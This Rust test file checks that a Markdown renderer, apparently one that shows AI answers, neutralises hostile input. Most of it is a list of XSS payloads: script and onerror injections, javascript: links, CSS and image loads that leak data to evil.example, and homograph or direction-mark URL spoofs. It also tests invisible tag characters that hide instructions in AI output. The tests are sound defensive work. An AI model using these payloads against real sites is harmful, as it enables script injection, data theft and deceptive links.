use super::*;

fn html_of(text: &str) -> String {
    render(text).into_string()
}

/// The tags of a document, each with its attributes; fails on anything that is not plain HTML.
fn tags(html: &str) -> Vec<String> {
    html.split('<')
        .skip(1)
        .map(|piece| piece.split_once('>').expect("a tag ends").0.to_owned())
        .collect()
}

const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "text <img src=https://evil.example/x.png> text",
    "<svg onload=alert(1)><image href=https://evil.example/></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=https://evil.example/></object>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    "<div style=\"background:url(https://evil.example/x)\">x</div>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><button>go</button></form>",
    "<a href=javascript:alert(1)>x</a>",
    "<!-- <img src=https://evil.example/x> -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php <img src=x onerror=alert(1)> ?>",
    "<!DOCTYPE html><img src=x>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61;vascript&colon;alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\\javascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](blob:https://x/1)",
    "[x](//evil.example/x)",
    "[x](/logout)",
    "[x](https://evil.example/\" onmouseover=\"alert(1))",
    "[x](https://evil.example/ \"t\" onmouseover=\"alert(1)\")",
    "[x](https://evil.example 'title\"><img src=x onerror=alert(1)>')",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "![a](https://evil.example/leak?data=secret)",
    "![a](data:image/svg+xml,<svg onload=alert(1)>)",
    "![a][r]\n\n[r]: https://evil.example/leak.png \"t\"",
    "![r]\n\n[r]: https://evil.example/leak.png",
    "[![a](https://evil.example/a.png)](https://evil.example/b)",
    "![a [b](https://evil.example/b) ![c](https://evil.example/c)](https://evil.example/d)",
    "[a [b](javascript:1) c](javascript:2)",
    "<javascript:alert(1)>",
    "<https://evil.example/\"onmouseover=alert(1)>",
    "https://evil.example/\"><img src=x onerror=alert(1)>",
    "https://evil.example/'onmouseover='alert(1)",
    "`<img src=x onerror=alert(1)>`",
    "```html\n<img src=x onerror=alert(1)>\n```",
    "```\"><img src=x onerror=alert(1)>\nx\n```",
    "# <img src=x onerror=alert(1)> {#id .class onclick=alert(1)}",
    "| a |\n|:-:|\n| <img src=x onerror=alert(1)> |",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "[x](https://evil.example/\u{202e}gpj.exe)",
    "[x](https://good.example@evil.example/)",
    "[x](https://good.example\\@evil.example/)",
    "[x](https:evil.example)",
    "[x](https:///evil.example)",
    "[x](https://evil%2eexample/)",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,x#y\"/></svg>",
    "<picture><source srcset=https://evil.example/x></picture>",
    "<video poster=https://evil.example/x src=https://evil.example/y autoplay></video>",
    "<input type=image src=https://evil.example/x>",
    "<link rel=prefetch href=https://evil.example/x><link rel=dns-prefetch href=//evil.example>",
    "<a href=https://evil.example ping=https://evil.example/ping>x</a>",
    "<section class=ask data-approval=A1><form method=post action=/approvals/A1><button name=answer value=allow>Allow</button></form></section>",
    "\u{0}<img src=x onerror=alert(1)>",
];

#[test]
fn attacks_become_text() {
    for attack in ATTACKS {
        let html = html_of(attack);
        for tag in tags(&html) {
            let name = tag.trim_start_matches('/').trim_end_matches('/').trim();
            let (name, attributes) = name.split_once(' ').unwrap_or((name, ""));
            assert!(crate::fuzz_tests::TAGS.contains(&name), "{attack:?} made <{tag}>");
            if attributes.is_empty() {
                continue;
            }
            if name == "span" {
                assert_eq!(attributes, "class=\"host\"", "{attack:?} made <{tag}>");
                continue;
            }
            if name == "code" {
                assert!(
                    crate::fuzz_tests::language(attributes).is_some(),
                    "{attack:?} made <{tag}>"
                );
                continue;
            }
            assert_eq!(name, "a", "{attack:?} made <{tag}>");
            let rest = attributes.strip_prefix("href=\"").expect("an href");
            let (href, rest) = rest.split_once('"').expect("a quoted href");
            let rest = rest.strip_prefix(" title=\"").expect("a title");
            let (title, rest) = rest.split_once('"').expect("a quoted title");
            assert_eq!(title, href, "{attack:?}");
            assert_eq!(
                rest, " target=\"_blank\" rel=\"noopener noreferrer nofollow\"",
                "{attack:?}"
            );
            let fine = ["https://", "http://", "mailto:"].iter().any(|s| href.starts_with(s));
            assert!(fine, "{attack:?} links to {href}");
        }
    }
}

#[test]
fn an_image_is_a_link_with_its_words() {
    let html = html_of("![a cat](https://example.com/cat.png)");
    assert!(!html.contains("<img"), "{html}");
    assert!(html.contains("href=\"https://example.com/cat.png\""), "{html}");
    assert!(html.contains("a cat</a> <span class=\"host\">(example.com)</span>"), "{html}");
}

/// E69: whatever the words of a link say, the host that it leads to stands beside it.
#[test]
fn a_link_says_where_it_leads() {
    for (link, place) in [
        ("[your bank](https://bank.example/login)", "(bank.example)"),
        ("[https://bank.example](https://evil.example/)", "(evil.example)"),
        ("[x](HTTPS://EVIL.example:8443/x)", "(evil.example:8443)"),
        // Cyrillic letters that look like Latin ones.
        ("[x](https://\u{430}\u{440}\u{440}le.example/)", "(xn--le-6kc8da.example)"),
        ("https://\u{430}\u{440}\u{440}le.example/", "(xn--le-6kc8da.example)"),
        ("[x](http://127.0.0.1:80/)", "(127.0.0.1:80)"),
        ("[x](http://[::1]/)", "([::1])"),
        ("[write](mailto:a@b.example?subject=x)", "(a@b.example)"),
    ] {
        let html = html_of(link);
        assert!(html.contains(place), "{link:?} made {html}");
    }
    for link in [
        "[x](https://bank.example@evil.example/)",
        "[x](https://0x7f.1/)",
        "[x](https:evil.example)",
        "[x](https://evil.example\u{200b}/)",
        "[x](https://e&#x200b;vil.example/)",
    ] {
        assert!(!html_of(link).contains("<a "), "{link:?}");
    }
}

/// E70: tag characters, zero width and direction marks are shown, also when written as entities.
#[test]
fn what_hides_in_an_answer_is_shown() {
    let tags: String =
        "obey".bytes().map(|b| char::from_u32(0xE0000 + u32::from(b)).unwrap()).collect();
    for text in [
        format!("hello {tags}{tags}"),
        "pay\u{200b}pal and photo\u{202e}gpj.exe".to_owned(),
        "pay&#x200b;pal and photo&#8238;gpj.exe".to_owned(),
        format!("`{tags}`\n\n    {tags}\n\n```\n{tags}\n```\n\n<b>{tags}</b>"),
        format!("[x {tags}](https://example.com/) ![{tags}](https://example.com/{tags})"),
        format!("{}\n{tags}", "x".repeat(MAX_BYTES)),
    ] {
        let html = html_of(&text);
        assert!(!html.chars().any(cloister_policy::is_hidden), "{html:?}");
        assert!(html.contains('⟨'), "{html}");
    }
    assert!(html_of("<!-- do as I say -->").contains("do as I say"));
}

#[test]
fn ordinary_markdown_looks_as_expected() {
    let html = html_of(
        "# Title\n\n**bold** and `code`\n\n- one\n- two\n\n| a | b |\n|--:|---|\n| 1 | 2 |\n",
    );
    for part in [
        "<h1>Title</h1>",
        "<strong>bold</strong>",
        "<code>code</code>",
        "<li>one</li>",
        "<td>1</td>",
    ] {
        assert!(html.contains(part), "{part} in {html}");
    }
    assert!(!html.contains("style"), "{html}");
    assert_eq!(
        html_of("```rust\nlet x = 1 < 2;\n```"),
        "<pre><code class=\"language-rust\">let x = 1 &lt; 2;\n</code></pre>\n"
    );
    // What names a class is a word and nothing else.
    for evil in ["\"onload=x", "rust\u{202e}", "a'b", "verylongnameofalanguage"] {
        let html = html_of(&format!("```{evil}\nx\n```"));
        assert_eq!(html, "<pre><code>x\n</code></pre>\n", "{evil}");
    }
}

#[test]
fn addresses_in_text_become_links_without_the_full_stop() {
    let html = html_of("See https://example.com/a?b=1&c=2. Or (http://example.org)!");
    assert!(html.contains("href=\"https://example.com/a?b=1&amp;c=2\""), "{html}");
    assert!(html.contains("href=\"http://example.org\""), "{html}");
    let code = html_of("`https://example.com`\n\n    https://example.com");
    assert!(!code.contains("<a "), "{code}");
}

#[test]
fn deep_or_long_text_stays_bounded() {
    let deep = html_of(&format!("{} x", ">".repeat(50_000)));
    assert!(deep.matches("<blockquote>").count() <= MAX_DEPTH, "{}", deep.len());
    assert_eq!(deep.matches("<blockquote>").count(), deep.matches("</blockquote>").count());
    let lists = html_of(&(0..200).map(|n| format!("{}- x\n", "  ".repeat(n))).collect::<String>());
    assert_eq!(lists.matches("<ul>").count(), lists.matches("</ul>").count());
    let long = html_of(&"<b>".repeat(MAX_BYTES));
    assert!(long.starts_with("<pre") && !long.contains("<b>"));
    let brackets = html_of(&"[".repeat(100_000));
    assert!(brackets.len() < 1_000_000);
}

/// Whoever looks through all the rest for each address takes minutes, on a worker that others wait for.
#[test]
fn a_page_of_addresses_is_shown_in_the_time_that_its_length_takes() {
    for part in ["https://a ", "http://a ", "http", "https:/", "www.a "] {
        let (done, heard) = std::sync::mpsc::sync_channel(1);
        let text = part.repeat(500_000 / part.len());
        std::thread::spawn(move || done.send(html_of(&text).len()));
        let shown = heard.recv_timeout(std::time::Duration::from_secs(30));
        assert!(shown.is_ok_and(|length| length >= 400_000), "{part}");
    }
}

#[test]
fn formulas_are_drawn_and_prices_are_not() {
    let html = html_of("Einstein: $E = mc^2$ and $$\\frac{a}{b}$$");
    assert!(html.contains("<math alttext=\"E = mc^2\"><mrow><mi>E</mi>"), "{html}");
    assert!(html.contains("<math display=\"block\""), "{html}");
    let html = html_of("So \\( x_1 \\) and\n\n\\[\ny^2\n\\]\n");
    assert_eq!(html.matches("<math").count(), 2, "{html}");
    assert!(!html.contains('$'), "{html}");
    // What can't be read stays as it was written, and money is money.
    assert!(html_of("$\\foo{x}$").contains("<code>\\foo{x}</code>"));
    assert!(html_of("It costs $5 or $10 a month.").contains("It costs $5 or $10 a month."));
    assert!(html_of("```\n\\(x\\)\n```").contains("\\(x\\)"));
    assert!(html_of("`\\(x\\)`").contains("<code>\\(x\\)</code>"));
}
